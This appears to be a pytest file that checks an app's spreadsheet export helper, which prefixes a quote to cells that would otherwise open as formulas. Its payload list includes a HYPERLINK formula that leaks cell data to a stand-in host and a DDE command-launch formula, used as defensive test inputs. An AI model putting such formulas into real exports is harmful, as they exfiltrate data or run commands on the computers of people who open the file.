"""The one spreadsheet-safe writer: no cell of a CSV or XLSX download opens as a formula.

FORMULAS are the payloads of OWASP's CSV injection guidance; the export tests of each app
(tests/*/test_*formula*.py) feed the same ones through every download.
"""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from victimcare.core.spreadsheets import (
    csv_dict_writer,
    csv_writer,
    formula_restored,
    formula_safe,
    xlsx_append,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "=cmd|' /C calc'!A0",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "victimcare"


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(cell: str, value: str) -> None:
    """What a spreadsheet reads is text: the value itself behind a leading quote."""
    assert cell == "'" + value


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_quoted(value: str) -> None:
    assert formula_safe(value) == "'" + value
    assert formula_restored(formula_safe(value)) == value


@pytest.mark.parametrize(
    "value", ["-5", "-3.25", "Amelia Hart", "", "07700 900123", "2026-03-14", "'quoted"]
)
def test_negative_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert formula_safe(value) == value
    assert formula_restored(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, True])
def test_values_that_are_not_text_are_left_alone(value: object) -> None:
    assert formula_safe(value) is value


def test_a_phone_number_with_a_plus_stays_text() -> None:
    assert formula_safe("+447700900123") == "'+447700900123"
    assert formula_safe("-5+1") == "'-5+1"


def test_both_csv_writers_quote_every_cell_headers_included() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", *FORMULAS, -5])
    writer.writerows([FORMULAS])
    rows = read_csv(out.getvalue())
    for cell, value in zip(rows[0][1:-1], FORMULAS, strict=True):
        assert_inert(cell, value)
    assert rows[0][-1] == "-5"
    assert rows[1] == ["'" + value for value in FORMULAS]

    out = io.StringIO()
    writer = csv_dict_writer(out, fieldnames=["=1+1", "b"])
    writer.writeheader()
    writer.writerow({"=1+1": "+1+1", "b": "fine"})
    writer.writerows([{"=1+1": "@SUM(A1)", "b": "-4"}])
    assert read_csv(out.getvalue()) == [["'=1+1", "b"], ["'+1+1", "fine"], ["'@SUM(A1)", "-4"]]


def test_xlsx_keeps_numbers_typed_and_text_never_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["label", 12, -5, 3.5, *FORMULAS])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells[:4]] == [
        ("label", "s"),
        (12, "n"),
        (-5, "n"),
        (3.5, "n"),
    ]
    for cell, value in zip(cells[4:], FORMULAS, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited
        # XLSX cannot hold a NUL, and XML reads a carriage return as a line break
        assert cell.value == value.replace("\0", "").replace("\r", "\n")


def test_no_export_writes_csv_or_xlsx_cells_without_the_helper() -> None:
    """Every `csv.writer`, `csv.DictWriter` and openpyxl `append` lives in the helper, so a
    new export cannot forget it."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and (
                (
                    isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                    and node.attr in {"writer", "DictWriter"}
                )
                or (
                    node.attr == "append"
                    and isinstance(node.value, ast.Name)
                    and node.value.id in {"sheet", "worksheet", "ws"}
                )
            ):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert offenders == []
